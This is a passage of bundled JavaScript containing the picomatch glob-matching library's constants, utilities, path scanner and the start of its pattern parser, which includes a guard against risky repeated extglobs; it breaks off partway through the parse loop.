import { createRequire as __pathfinderCreateRequire } from "node:module"; globalThis.require ??= __pathfinderCreateRequire(import.meta.url);
var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __commonJS = (cb, mod) => function __require() {
  try {
    return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
  } catch (e) {
    throw mod = 0, e;
  }
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  // If the importer is in node compatibility mode or this is not an ESM
  // file that has been converted to a CommonJS file using a Babel-
  // compatible transform (i.e. "__esModule" has not been set), then set
  // "default" to the CommonJS "module.exports" for node compatibility.
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));

// node_modules/picomatch/lib/constants.js
var require_constants = __commonJS({
  "node_modules/picomatch/lib/constants.js"(exports, module2) {
    "use strict";
    var WIN_SLASH = "\\\\/";
    var WIN_NO_SLASH = `[^${WIN_SLASH}]`;
    var DEFAULT_MAX_EXTGLOB_RECURSION = 0;
    var DOT_LITERAL = "\\.";
    var PLUS_LITERAL = "\\+";
    var QMARK_LITERAL = "\\?";
    var SLASH_LITERAL = "\\/";
    var ONE_CHAR = "(?=.)";
    var QMARK = "[^/]";
    var END_ANCHOR = `(?:${SLASH_LITERAL}|$)`;
    var START_ANCHOR = `(?:^|${SLASH_LITERAL})`;
    var DOTS_SLASH = `${DOT_LITERAL}{1,2}${END_ANCHOR}`;
    var NO_DOT = `(?!${DOT_LITERAL})`;
    var NO_DOTS = `(?!${START_ANCHOR}${DOTS_SLASH})`;
    var NO_DOT_SLASH = `(?!${DOT_LITERAL}{0,1}${END_ANCHOR})`;
    var NO_DOTS_SLASH = `(?!${DOTS_SLASH})`;
    var QMARK_NO_DOT = `[^.${SLASH_LITERAL}]`;
    var STAR = `${QMARK}*?`;
    var SEP = "/";
    var POSIX_CHARS = {
      DOT_LITERAL,
      PLUS_LITERAL,
      QMARK_LITERAL,
      SLASH_LITERAL,
      ONE_CHAR,
      QMARK,
      END_ANCHOR,
      DOTS_SLASH,
      NO_DOT,
      NO_DOTS,
      NO_DOT_SLASH,
      NO_DOTS_SLASH,
      QMARK_NO_DOT,
      STAR,
      START_ANCHOR,
      SEP
    };
    var WINDOWS_CHARS = {
      ...POSIX_CHARS,
      SLASH_LITERAL: `[${WIN_SLASH}]`,
      QMARK: WIN_NO_SLASH,
      STAR: `${WIN_NO_SLASH}*?`,
      DOTS_SLASH: `${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$)`,
      NO_DOT: `(?!${DOT_LITERAL})`,
      NO_DOTS: `(?!(?:^|[${WIN_SLASH}])${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
      NO_DOT_SLASH: `(?!${DOT_LITERAL}{0,1}(?:[${WIN_SLASH}]|$))`,
      NO_DOTS_SLASH: `(?!${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
      QMARK_NO_DOT: `[^.${WIN_SLASH}]`,
      START_ANCHOR: `(?:^|[${WIN_SLASH}])`,
      END_ANCHOR: `(?:[${WIN_SLASH}]|$)`,
      SEP: "\\"
    };
    var POSIX_REGEX_SOURCE = {
      __proto__: null,
      alnum: "a-zA-Z0-9",
      alpha: "a-zA-Z",
      ascii: "\\x00-\\x7F",
      blank: " \\t",
      cntrl: "\\x00-\\x1F\\x7F",
      digit: "0-9",
      graph: "\\x21-\\x7E",
      lower: "a-z",
      print: "\\x20-\\x7E ",
      punct: "\\-!\"#$%&'()\\*+,./:;<=>?@[\\]^_`{|}~",
      space: " \\t\\r\\n\\v\\f",
      upper: "A-Z",
      word: "A-Za-z0-9_",
      xdigit: "A-Fa-f0-9"
    };
    module2.exports = {
      DEFAULT_MAX_EXTGLOB_RECURSION,
      MAX_LENGTH: 1024 * 64,
      POSIX_REGEX_SOURCE,
      // regular expressions
      REGEX_BACKSLASH: /\\(?![*+?^${}(|)[\]])/g,
      REGEX_NON_SPECIAL_CHARS: /^[^@![\].,$*+?^{}()|\\/]+/,
      REGEX_SPECIAL_CHARS: /[-*+?.^${}(|)[\]]/,
      REGEX_SPECIAL_CHARS_BACKREF: /(\\?)((\W)(\3*))/g,
      REGEX_SPECIAL_CHARS_GLOBAL: /([-*+?.^${}(|)[\]])/g,
      REGEX_REMOVE_BACKSLASH: /(?:\[.*?[^\\]\]|\\(?=.))/g,
      // Replace globs with equivalent patterns to reduce parsing time.
      REPLACEMENTS: {
        __proto__: null,
        "***": "*",
        "**/**": "**",
        "**/**/**": "**"
      },
      // Digits
      CHAR_0: 48,
      /* 0 */
      CHAR_9: 57,
      /* 9 */
      // Alphabet chars.
      CHAR_UPPERCASE_A: 65,
      /* A */
      CHAR_LOWERCASE_A: 97,
      /* a */
      CHAR_UPPERCASE_Z: 90,
      /* Z */
      CHAR_LOWERCASE_Z: 122,
      /* z */
      CHAR_LEFT_PARENTHESES: 40,
      /* ( */
      CHAR_RIGHT_PARENTHESES: 41,
      /* ) */
      CHAR_ASTERISK: 42,
      /* * */
      // Non-alphabetic chars.
      CHAR_AMPERSAND: 38,
      /* & */
      CHAR_AT: 64,
      /* @ */
      CHAR_BACKWARD_SLASH: 92,
      /* \ */
      CHAR_CARRIAGE_RETURN: 13,
      /* \r */
      CHAR_CIRCUMFLEX_ACCENT: 94,
      /* ^ */
      CHAR_COLON: 58,
      /* : */
      CHAR_COMMA: 44,
      /* , */
      CHAR_DOT: 46,
      /* . */
      CHAR_DOUBLE_QUOTE: 34,
      /* " */
      CHAR_EQUAL: 61,
      /* = */
      CHAR_EXCLAMATION_MARK: 33,
      /* ! */
      CHAR_FORM_FEED: 12,
      /* \f */
      CHAR_FORWARD_SLASH: 47,
      /* / */
      CHAR_GRAVE_ACCENT: 96,
      /* ` */
      CHAR_HASH: 35,
      /* # */
      CHAR_HYPHEN_MINUS: 45,
      /* - */
      CHAR_LEFT_ANGLE_BRACKET: 60,
      /* < */
      CHAR_LEFT_CURLY_BRACE: 123,
      /* { */
      CHAR_LEFT_SQUARE_BRACKET: 91,
      /* [ */
      CHAR_LINE_FEED: 10,
      /* \n */
      CHAR_NO_BREAK_SPACE: 160,
      /* \u00A0 */
      CHAR_PERCENT: 37,
      /* % */
      CHAR_PLUS: 43,
      /* + */
      CHAR_QUESTION_MARK: 63,
      /* ? */
      CHAR_RIGHT_ANGLE_BRACKET: 62,
      /* > */
      CHAR_RIGHT_CURLY_BRACE: 125,
      /* } */
      CHAR_RIGHT_SQUARE_BRACKET: 93,
      /* ] */
      CHAR_SEMICOLON: 59,
      /* ; */
      CHAR_SINGLE_QUOTE: 39,
      /* ' */
      CHAR_SPACE: 32,
      /*   */
      CHAR_TAB: 9,
      /* \t */
      CHAR_UNDERSCORE: 95,
      /* _ */
      CHAR_VERTICAL_LINE: 124,
      /* | */
      CHAR_ZERO_WIDTH_NOBREAK_SPACE: 65279,
      /* \uFEFF */
      /**
       * Create EXTGLOB_CHARS
       */
      extglobChars(chars) {
        return {
          "!": { type: "negate", open: "(?:(?!(?:", close: `))${chars.STAR})` },
          "?": { type: "qmark", open: "(?:", close: ")?" },
          "+": { type: "plus", open: "(?:", close: ")+" },
          "*": { type: "star", open: "(?:", close: ")*" },
          "@": { type: "at", open: "(?:", close: ")" }
        };
      },
      /**
       * Create GLOB_CHARS
       */
      globChars(win32) {
        return win32 === true ? WINDOWS_CHARS : POSIX_CHARS;
      }
    };
  }
});

// node_modules/picomatch/lib/utils.js
var require_utils = __commonJS({
  "node_modules/picomatch/lib/utils.js"(exports) {
    "use strict";
    var {
      REGEX_BACKSLASH,
      REGEX_REMOVE_BACKSLASH,
      REGEX_SPECIAL_CHARS,
      REGEX_SPECIAL_CHARS_GLOBAL
    } = require_constants();
    exports.isObject = (val) => val !== null && typeof val === "object" && !Array.isArray(val);
    exports.hasRegexChars = (str) => REGEX_SPECIAL_CHARS.test(str);
    exports.isRegexChar = (str) => str.length === 1 && exports.hasRegexChars(str);
    exports.escapeRegex = (str) => str.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
    exports.toPosixSlashes = (str) => str.replace(REGEX_BACKSLASH, "/");
    exports.isWindows = () => {
      if (typeof navigator !== "undefined" && navigator.platform) {
        const platform = navigator.platform.toLowerCase();
        return platform === "win32" || platform === "windows";
      }
      if (typeof process !== "undefined" && process.platform) {
        return process.platform === "win32";
      }
      return false;
    };
    exports.removeBackslashes = (str) => {
      return str.replace(REGEX_REMOVE_BACKSLASH, (match) => {
        return match === "\\" ? "" : match;
      });
    };
    exports.escapeLast = (input, char, lastIdx) => {
      const idx = input.lastIndexOf(char, lastIdx);
      if (idx === -1) return input;
      if (input[idx - 1] === "\\") return exports.escapeLast(input, char, idx - 1);
      return `${input.slice(0, idx)}\\${input.slice(idx)}`;
    };
    exports.removePrefix = (input, state = {}) => {
      let output = input;
      if (output.startsWith("./")) {
        output = output.slice(2);
        state.prefix = "./";
      }
      return output;
    };
    exports.wrapOutput = (input, state = {}, options = {}) => {
      const prepend = options.contains ? "" : "^";
      const append = options.contains ? "" : "$";
      let output = `${prepend}(?:${input})${append}`;
      if (state.negated === true) {
        output = `(?:^(?!${output}).*$)`;
      }
      return output;
    };
    exports.basename = (path, { windows } = {}) => {
      const segs = path.split(windows ? /[\\/]/ : "/");
      const last = segs[segs.length - 1];
      if (last === "") {
        return segs[segs.length - 2];
      }
      return last;
    };
  }
});

// node_modules/picomatch/lib/scan.js
var require_scan = __commonJS({
  "node_modules/picomatch/lib/scan.js"(exports, module2) {
    "use strict";
    var utils = require_utils();
    var {
      CHAR_ASTERISK,
      /* * */
      CHAR_AT,
      /* @ */
      CHAR_BACKWARD_SLASH,
      /* \ */
      CHAR_COMMA,
      /* , */
      CHAR_DOT,
      /* . */
      CHAR_EXCLAMATION_MARK,
      /* ! */
      CHAR_FORWARD_SLASH,
      /* / */
      CHAR_LEFT_CURLY_BRACE,
      /* { */
      CHAR_LEFT_PARENTHESES,
      /* ( */
      CHAR_LEFT_SQUARE_BRACKET,
      /* [ */
      CHAR_PLUS,
      /* + */
      CHAR_QUESTION_MARK,
      /* ? */
      CHAR_RIGHT_CURLY_BRACE,
      /* } */
      CHAR_RIGHT_PARENTHESES,
      /* ) */
      CHAR_RIGHT_SQUARE_BRACKET
      /* ] */
    } = require_constants();
    var isPathSeparator = (code3) => {
      return code3 === CHAR_FORWARD_SLASH || code3 === CHAR_BACKWARD_SLASH;
    };
    var depth = (token) => {
      if (token.isPrefix !== true) {
        token.depth = token.isGlobstar ? Infinity : 1;
      }
    };
    var scan = (input, options) => {
      const opts = options || {};
      const length = input.length - 1;
      const scanToEnd = opts.parts === true || opts.tokens === true || opts.scanToEnd === true;
      const slashes = [];
      const tokens = [];
      const parts2 = [];
      let str = input;
      let index = -1;
      let start2 = 0;
      let lastIndex = 0;
      let isBrace = false;
      let isBracket = false;
      let isGlob = false;
      let isExtglob = false;
      let isGlobstar = false;
      let braceEscaped = false;
      let backslashes = false;
      let negated = false;
      let negatedExtglob = false;
      let finished = false;
      let braces = 0;
      let prev;
      let code3;
      let token = { value: "", depth: 0, isGlob: false };
      const eos = () => index >= length;
      const peek = () => str.charCodeAt(index + 1);
      const advance = () => {
        prev = code3;
        return str.charCodeAt(++index);
      };
      while (index < length) {
        code3 = advance();
        let next;
        if (code3 === CHAR_BACKWARD_SLASH) {
          backslashes = token.backslashes = true;
          code3 = advance();
          if (code3 === CHAR_LEFT_CURLY_BRACE) {
            braceEscaped = true;
          }
          continue;
        }
        if (braceEscaped === true || code3 === CHAR_LEFT_CURLY_BRACE) {
          braces++;
          while (eos() !== true && (code3 = advance())) {
            if (code3 === CHAR_BACKWARD_SLASH) {
              backslashes = token.backslashes = true;
              advance();
              continue;
            }
            if (code3 === CHAR_LEFT_CURLY_BRACE) {
              braces++;
              continue;
            }
            if (braceEscaped !== true && code3 === CHAR_DOT && (code3 = advance()) === CHAR_DOT) {
              isBrace = token.isBrace = true;
              isGlob = token.isGlob = true;
              finished = true;
              if (scanToEnd === true) {
                continue;
              }
              break;
            }
            if (braceEscaped !== true && code3 === CHAR_COMMA) {
              isBrace = token.isBrace = true;
              isGlob = token.isGlob = true;
              finished = true;
              if (scanToEnd === true) {
                continue;
              }
              break;
            }
            if (code3 === CHAR_RIGHT_CURLY_BRACE) {
              braces--;
              if (braces === 0) {
                braceEscaped = false;
                isBrace = token.isBrace = true;
                finished = true;
                break;
              }
            }
          }
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (code3 === CHAR_FORWARD_SLASH) {
          slashes.push(index);
          tokens.push(token);
          token = { value: "", depth: 0, isGlob: false };
          if (finished === true) continue;
          if (prev === CHAR_DOT && index === start2 + 1) {
            start2 += 2;
            continue;
          }
          lastIndex = index + 1;
          continue;
        }
        if (opts.noext !== true) {
          const isExtglobChar = code3 === CHAR_PLUS || code3 === CHAR_AT || code3 === CHAR_ASTERISK || code3 === CHAR_QUESTION_MARK || code3 === CHAR_EXCLAMATION_MARK;
          if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
            isGlob = token.isGlob = true;
            isExtglob = token.isExtglob = true;
            finished = true;
            if (code3 === CHAR_EXCLAMATION_MARK && index === start2) {
              negatedExtglob = true;
            }
            if (scanToEnd === true) {
              let parens = 0;
              while (eos() !== true && (code3 = advance())) {
                if (code3 === CHAR_BACKWARD_SLASH) {
                  backslashes = token.backslashes = true;
                  advance();
                  continue;
                }
                if (code3 === CHAR_LEFT_PARENTHESES) {
                  parens++;
                  continue;
                }
                if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
                  finished = true;
                  break;
                }
              }
              continue;
            }
            break;
          }
        }
        if (code3 === CHAR_ASTERISK) {
          if (prev === CHAR_ASTERISK) isGlobstar = token.isGlobstar = true;
          isGlob = token.isGlob = true;
          finished = true;
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (code3 === CHAR_QUESTION_MARK) {
          isGlob = token.isGlob = true;
          finished = true;
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (code3 === CHAR_LEFT_SQUARE_BRACKET) {
          while (eos() !== true && (next = advance())) {
            if (next === CHAR_BACKWARD_SLASH) {
              backslashes = token.backslashes = true;
              advance();
              continue;
            }
            if (next === CHAR_RIGHT_SQUARE_BRACKET) {
              isBracket = token.isBracket = true;
              isGlob = token.isGlob = true;
              finished = true;
              break;
            }
          }
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (opts.nonegate !== true && code3 === CHAR_EXCLAMATION_MARK && index === start2) {
          negated = token.negated = true;
          start2++;
          continue;
        }
        if (opts.noparen !== true && code3 === CHAR_LEFT_PARENTHESES) {
          isGlob = token.isGlob = true;
          if (scanToEnd === true) {
            let parens = 1;
            while (eos() !== true && (code3 = advance())) {
              if (code3 === CHAR_BACKWARD_SLASH) {
                backslashes = token.backslashes = true;
                advance();
                continue;
              }
              if (code3 === CHAR_LEFT_PARENTHESES) {
                parens++;
                continue;
              }
              if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
                finished = true;
                break;
              }
            }
            continue;
          }
          break;
        }
        if (isGlob === true) {
          finished = true;
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
      }
      if (opts.noext === true) {
        isExtglob = false;
        isGlob = false;
      }
      let base = str;
      let prefix = "";
      let glob = "";
      if (start2 > 0) {
        prefix = str.slice(0, start2);
        str = str.slice(start2);
        lastIndex -= start2;
      }
      if (base && isGlob === true && lastIndex > 0) {
        base = str.slice(0, lastIndex);
        glob = str.slice(lastIndex);
      } else if (isGlob === true) {
        base = "";
        glob = str;
      } else {
        base = str;
      }
      if (base && base !== "" && base !== "/" && base !== str) {
        if (isPathSeparator(base.charCodeAt(base.length - 1))) {
          base = base.slice(0, -1);
        }
      }
      if (opts.unescape === true) {
        if (glob) glob = utils.removeBackslashes(glob);
        if (base && backslashes === true) {
          base = utils.removeBackslashes(base);
        }
      }
      const state = {
        prefix,
        input,
        start: start2,
        base,
        glob,
        isBrace,
        isBracket,
        isGlob,
        isExtglob,
        isGlobstar,
        negated,
        negatedExtglob
      };
      if (opts.tokens === true) {
        state.maxDepth = 0;
        if (!isPathSeparator(code3)) {
          tokens.push(token);
        }
        state.tokens = tokens;
      }
      if (opts.parts === true || opts.tokens === true) {
        let prevIndex;
        for (let idx = 0; idx < slashes.length; idx++) {
          const n2 = prevIndex !== void 0 ? prevIndex + 1 : start2;
          const i2 = slashes[idx];
          const value2 = input.slice(n2, i2);
          if (opts.tokens) {
            if (idx === 0 && start2 !== 0) {
              tokens[idx].isPrefix = true;
              tokens[idx].value = prefix;
            } else {
              tokens[idx].value = value2;
            }
            depth(tokens[idx]);
            state.maxDepth += tokens[idx].depth;
          }
          if (i2 >= start2) {
            parts2.push(value2);
            prevIndex = i2;
          }
        }
        const n = prevIndex !== void 0 ? prevIndex + 1 : start2;
        const value = input.slice(n);
        parts2.push(value);
        if (opts.tokens && prevIndex && prevIndex + 1 < input.length) {
          tokens[tokens.length - 1].value = value;
          depth(tokens[tokens.length - 1]);
          state.maxDepth += tokens[tokens.length - 1].depth;
        }
        state.slashes = slashes;
        state.parts = parts2;
      }
      return state;
    };
    module2.exports = scan;
  }
});

// node_modules/picomatch/lib/parse.js
var require_parse = __commonJS({
  "node_modules/picomatch/lib/parse.js"(exports, module2) {
    "use strict";
    var constants = require_constants();
    var utils = require_utils();
    var {
      MAX_LENGTH,
      POSIX_REGEX_SOURCE,
      REGEX_NON_SPECIAL_CHARS,
      REGEX_SPECIAL_CHARS_BACKREF,
      REPLACEMENTS
    } = constants;
    var expandRange = (args2, options) => {
      if (typeof options.expandRange === "function") {
        return options.expandRange(...args2, options);
      }
      args2.sort();
      const value = `[${args2.join("-")}]`;
      try {
        new RegExp(value);
      } catch (ex) {
        return args2.map((v) => utils.escapeRegex(v)).join("..");
      }
      return value;
    };
    var syntaxError = (type, char) => {
      return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
    };
    var splitTopLevel = (input) => {
      const parts2 = [];
      let bracket = 0;
      let paren = 0;
      let quote = 0;
      let value = "";
      let escaped = false;
      for (const ch of input) {
        if (escaped === true) {
          value += ch;
          escaped = false;
          continue;
        }
        if (ch === "\\") {
          value += ch;
          escaped = true;
          continue;
        }
        if (ch === '"') {
          quote = quote === 1 ? 0 : 1;
          value += ch;
          continue;
        }
        if (quote === 0) {
          if (ch === "[") {
            bracket++;
          } else if (ch === "]" && bracket > 0) {
            bracket--;
          } else if (bracket === 0) {
            if (ch === "(") {
              paren++;
            } else if (ch === ")" && paren > 0) {
              paren--;
            } else if (ch === "|" && paren === 0) {
              parts2.push(value);
              value = "";
              continue;
            }
          }
        }
        value += ch;
      }
      parts2.push(value);
      return parts2;
    };
    var isPlainBranch = (branch) => {
      let escaped = false;
      for (const ch of branch) {
        if (escaped === true) {
          escaped = false;
          continue;
        }
        if (ch === "\\") {
          escaped = true;
          continue;
        }
        if (/[?*+@!()[\]{}]/.test(ch)) {
          return false;
        }
      }
      return true;
    };
    var normalizeSimpleBranch = (branch) => {
      let value = branch.trim();
      let changed = true;
      while (changed === true) {
        changed = false;
        if (/^@\([^\\()[\]{}|]+\)$/.test(value)) {
          value = value.slice(2, -1);
          changed = true;
        }
      }
      if (!isPlainBranch(value)) {
        return;
      }
      return value.replace(/\\(.)/g, "$1");
    };
    var hasRepeatedCharPrefixOverlap = (branches) => {
      const values = branches.map(normalizeSimpleBranch).filter(Boolean);
      for (let i2 = 0; i2 < values.length; i2++) {
        for (let j = i2 + 1; j < values.length; j++) {
          const a = values[i2];
          const b = values[j];
          const char = a[0];
          if (!char || a !== char.repeat(a.length) || b !== char.repeat(b.length)) {
            continue;
          }
          if (a === b || a.startsWith(b) || b.startsWith(a)) {
            return true;
          }
        }
      }
      return false;
    };
    var parseRepeatedExtglob = (pattern, requireEnd = true) => {
      if (pattern[0] !== "+" && pattern[0] !== "*" || pattern[1] !== "(") {
        return;
      }
      let bracket = 0;
      let paren = 0;
      let quote = 0;
      let escaped = false;
      for (let i2 = 1; i2 < pattern.length; i2++) {
        const ch = pattern[i2];
        if (escaped === true) {
          escaped = false;
          continue;
        }
        if (ch === "\\") {
          escaped = true;
          continue;
        }
        if (ch === '"') {
          quote = quote === 1 ? 0 : 1;
          continue;
        }
        if (quote === 1) {
          continue;
        }
        if (ch === "[") {
          bracket++;
          continue;
        }
        if (ch === "]" && bracket > 0) {
          bracket--;
          continue;
        }
        if (bracket > 0) {
          continue;
        }
        if (ch === "(") {
          paren++;
          continue;
        }
        if (ch === ")") {
          paren--;
          if (paren === 0) {
            if (requireEnd === true && i2 !== pattern.length - 1) {
              return;
            }
            return {
              type: pattern[0],
              body: pattern.slice(2, i2),
              end: i2
            };
          }
        }
      }
    };
    var buildCharClassStar = (chars) => {
      const source = chars.length === 1 ? utils.escapeRegex(chars[0]) : `[${chars.map((ch) => utils.escapeRegex(ch)).join("")}]`;
      return `${source}*`;
    };
    var getStarExtglobSequenceChars = (pattern) => {
      let index = 0;
      const chars = [];
      while (index < pattern.length) {
        const match = parseRepeatedExtglob(pattern.slice(index), false);
        if (!match || match.type !== "*") {
          return;
        }
        const branches = splitTopLevel(match.body).map((branch2) => branch2.trim());
        if (branches.length !== 1) {
          return;
        }
        const branch = normalizeSimpleBranch(branches[0]);
        if (!branch || branch.length !== 1) {
          return;
        }
        chars.push(branch);
        index += match.end + 1;
      }
      if (chars.length < 1) {
        return;
      }
      return chars;
    };
    var repeatedExtglobRecursion = (pattern) => {
      let depth = 0;
      let value = pattern.trim();
      let match = parseRepeatedExtglob(value);
      while (match) {
        depth++;
        value = match.body.trim();
        match = parseRepeatedExtglob(value);
      }
      return depth;
    };
    var analyzeRepeatedExtglob = (body2, options) => {
      if (options.maxExtglobRecursion === false) {
        return { risky: false };
      }
      const max = typeof options.maxExtglobRecursion === "number" ? options.maxExtglobRecursion : constants.DEFAULT_MAX_EXTGLOB_RECURSION;
      const branches = splitTopLevel(body2).map((branch) => branch.trim());
      if (branches.length > 1) {
        if (branches.some((branch) => branch === "") || branches.some((branch) => /^[*?]+$/.test(branch)) || hasRepeatedCharPrefixOverlap(branches)) {
          return { risky: true };
        }
      }
      const safeChars = [];
      let sawStarSequence = false;
      let combinable = true;
      for (const branch of branches) {
        const chars = getStarExtglobSequenceChars(branch);
        if (chars) {
          sawStarSequence = true;
          safeChars.push(...chars);
          continue;
        }
        const literal = normalizeSimpleBranch(branch);
        if (literal && literal.length === 1) {
          safeChars.push(literal);
          continue;
        }
        combinable = false;
        if (repeatedExtglobRecursion(branch) > max) {
          return { risky: true };
        }
      }
      if (sawStarSequence) {
        return combinable ? { risky: true, safeOutput: buildCharClassStar([...new Set(safeChars)]) } : { risky: true };
      }
      return { risky: false };
    };
    var parse4 = (input, options) => {
      if (typeof input !== "string") {
        throw new TypeError("Expected a string");
      }
      input = REPLACEMENTS[input] || input;
      const opts = { ...options };
      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
      let len = input.length;
      if (len > max) {
        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
      }
      const bos = { type: "bos", value: "", output: opts.prepend || "" };
      const tokens = [bos];
      const capture = opts.capture ? "" : "?:";
      const PLATFORM_CHARS = constants.globChars(opts.windows);
      const EXTGLOB_CHARS = constants.extglobChars(PLATFORM_CHARS);
      const {
        DOT_LITERAL,
        PLUS_LITERAL,
        SLASH_LITERAL,
        ONE_CHAR,
        DOTS_SLASH,
        NO_DOT,
        NO_DOT_SLASH,
        NO_DOTS_SLASH,
        QMARK,
        QMARK_NO_DOT,
        STAR,
        START_ANCHOR
      } = PLATFORM_CHARS;
      const globstar = (opts2) => {
        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
      };
      const nodot = opts.dot ? "" : NO_DOT;
      const qmarkNoDot = opts.dot ? QMARK : QMARK_NO_DOT;
      let star = opts.bash === true ? globstar(opts) : STAR;
      if (opts.capture) {
        star = `(${star})`;
      }
      if (typeof opts.noext === "boolean") {
        opts.noextglob = opts.noext;
      }
      const state = {
        input,
        index: -1,
        start: 0,
        dot: opts.dot === true,
        consumed: "",
        output: "",
        prefix: "",
        backtrack: false,
        negated: false,
        brackets: 0,
        braces: 0,
        parens: 0,
        quotes: 0,
        globstar: false,
        tokens
      };
      input = utils.removePrefix(input, state);
      len = input.length;
      const extglobs = [];
      const braces = [];
      const stack = [];
      let prev = bos;
      let value;
      const eos = () => state.index === len - 1;
      const peek = state.peek = (n = 1) => input[state.index + n];
      const advance = state.advance = () => input[++state.index] || "";
      const remaining = () => input.slice(state.index + 1);
      const consume = (value2 = "", num = 0) => {
        state.consumed += value2;
        state.index += num;
      };
      const append = (token) => {
        state.output += token.output != null ? token.output : token.value;
        consume(token.value);
      };
      const negate = () => {
        let count = 1;
        while (peek() === "!" && (peek(2) !== "(" || peek(3) === "?")) {
          advance();
          state.start++;
          count++;
        }
        if (count % 2 === 0) {
          return false;
        }
        state.negated = true;
        state.start++;
        return true;
      };
      const increment = (type) => {
        state[type]++;
        stack.push(type);
      };
      const decrement = (type) => {
        state[type]--;
        stack.pop();
      };
      const push = (tok) => {
        if (prev.type === "globstar") {
          const isBrace = state.braces > 0 && (tok.type === "comma" || tok.type === "brace");
          const isExtglob = tok.extglob === true || extglobs.length && (tok.type === "pipe" || tok.type === "paren");
          if (tok.type !== "slash" && tok.type !== "paren" && !isBrace && !isExtglob) {
            state.output = state.output.slice(0, -prev.output.length);
            prev.type = "star";
            prev.value = "*";
            prev.output = star;
            state.output += prev.output;
          }
        }
        if (extglobs.length && tok.type !== "paren") {
          extglobs[extglobs.length - 1].inner += tok.value;
        }
        if (tok.value || tok.output) append(tok);
        if (prev && prev.type === "text" && tok.type === "text") {
          prev.output = (prev.output || prev.value) + tok.value;
          prev.value += tok.value;
          return;
        }
        tok.prev = prev;
        tokens.push(tok);
        prev = tok;
      };
      const extglobOpen = (type, value2) => {
        const token = { ...EXTGLOB_CHARS[value2], conditions: 1, inner: "" };
        token.prev = prev;
        token.parens = state.parens;
        token.output = state.output;
        token.startIndex = state.index;
        token.tokensIndex = tokens.length;
        const output = (opts.capture ? "(" : "") + token.open;
        increment("parens");
        push({ type, value: value2, output: state.output ? "" : ONE_CHAR });
        push({ type: "paren", extglob: true, value: advance(), output });
        extglobs.push(token);
      };
      const extglobClose = (token) => {
        const literal = input.slice(token.startIndex, state.index + 1);
        const body2 = input.slice(token.startIndex + 2, state.index);
        const analysis = analyzeRepeatedExtglob(body2, opts);
        if ((token.type === "plus" || token.type === "star") && analysis.risky) {
          const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
          const open3 = tokens[token.tokensIndex];
          open3.type = "text";
          open3.value = literal;
          open3.output = safeOutput || utils.escapeRegex(literal);
          for (let i2 = token.tokensIndex + 1; i2 < tokens.length; i2++) {
            tokens[i2].value = "";
            tokens[i2].output = "";
            delete tokens[i2].suffix;
          }
          state.output = token.output + open3.output;
          state.backtrack = true;
          push({ type: "paren", extglob: true, value, output: "" });
          decrement("parens");
          return;
        }
        let output = token.close + (opts.capture ? ")" : "");
        let rest;
        if (token.type === "negate") {
          let extglobStar = star;
          if (token.inner && token.inner.length > 1 && token.inner.includes("/")) {
            extglobStar = globstar(opts);
          }
          if (extglobStar !== star || eos() || /^\)+$/.test(remaining())) {
            output = token.close = `)$))${extglobStar}`;
          }
          if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
            const expression = parse4(rest, { ...options, fastpaths: false }).output;
            output = token.close = `)${expression})${extglobStar})`;
          }
          if (token.prev.type === "bos") {
            state.negatedExtglob = true;
          }
        }
        push({ type: "paren", extglob: true, value, output });
        decrement("parens");
      };
      if (opts.fastpaths !== false && !/(^[*!]|[/()[\]{}"])/.test(input)) {
        let backslashes = false;
        let output = input.replace(REGEX_SPECIAL_CHARS_BACKREF, (m, esc, chars, first, rest, index) => {
          if (first === "\\") {
            backslashes = true;
            return m;
          }
          if (first === "?") {
            if (esc) {
              return esc + first + (rest ? QMARK.repeat(rest.length) : "");
            }
            if (index === 0) {
              return qmarkNoDot + (rest ? QMARK.repeat(rest.length) : "");
            }
            return QMARK.repeat(chars.length);
          }
          if (first === ".") {
            return DOT_LITERAL.repeat(chars.length);
          }
          if (first === "*") {
            if (esc) {
              return esc + first + (rest ? star : "");
            }
            return star;
          }
          return esc ? m : `\\${m}`;
        });
        if (backslashes === true) {
          if (opts.unescape === true) {
            output = output.replace(/\\/g, "");
          } else {
            output = output.replace(/\\+/g, (m) => {
              return m.length % 2 === 0 ? "\\\\" : m ? "\\" : "";
            });
          }
        }
        if (output === input && opts.contains === true) {
          state.output = input;
          return state;
        }
        state.output = utils.wrapOutput(output, state, options);
        return state;
      }
      while (!eos()) {
        value = advance();
        if (value === "\0") {
          continue;
        }
        if (value === "\\") {
          const next = peek();
          if (next === "/" && opts.bash !== true) {
            continue;
          }
          if (next === "." || next === ";") {
            continue;
          }
